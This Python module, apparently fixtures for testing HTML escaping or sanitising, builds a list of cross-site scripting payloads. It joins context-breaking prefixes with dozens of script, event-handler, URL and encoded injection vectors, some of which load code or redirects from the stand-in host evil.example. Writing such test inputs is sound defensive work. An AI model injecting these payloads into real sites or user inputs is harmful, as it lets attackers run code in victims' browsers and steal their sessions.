"""Texts that would run in a reader's browser if they were ever markup, a script or an address.

Each calls ``hacked(N)`` when it runs, or asks evil.example for something.
"""

from __future__ import annotations

EVIL = "evil.example"

# Out of where a text may stand: markup, an attribute, an element of raw text, a comment, CDATA.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea></script>",
    "--></style>",
    "]]>",
    "\\u0022>",
    "`x` ",
)
_RUN = (
    "<script>{run}</script>",
    "<ScRiPt/x>{run}//</sCrIpT>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={run}>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><script>{run}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<body onload={run}>",
    "<video src=x onerror={run}></video>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data='data:text/html,<script>parent.{run}</script>'></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<form action=//evil.example/{n}><button autofocus>go",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template><script>{run}</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
    "<?xml-stylesheet href='//evil.example/{n}.xsl'?>",
    "x' autofocus onfocus='{run}' x='",
    'x" autofocus onfocus="{run}" x="',
    "x autofocus onfocus={run} ",
    "javascript:{run}",
    "\tjava\nscript:{run}//",
    "data:text/html,<script>{run}</script>",
    "//evil.example/{n}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}';{run};'",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\x00<scr\x00ipt>{run}</scr\x00ipt>\u2028",
)


def _payloads() -> tuple[str, ...]:
    made = [out + run for run in _RUN for out in _WAYS_OUT]
    return tuple(
        text.format(run=f"hacked({number})", n=number) if "{" in text else text
        for number, text in enumerate(made)
    )


PAYLOADS = _payloads()
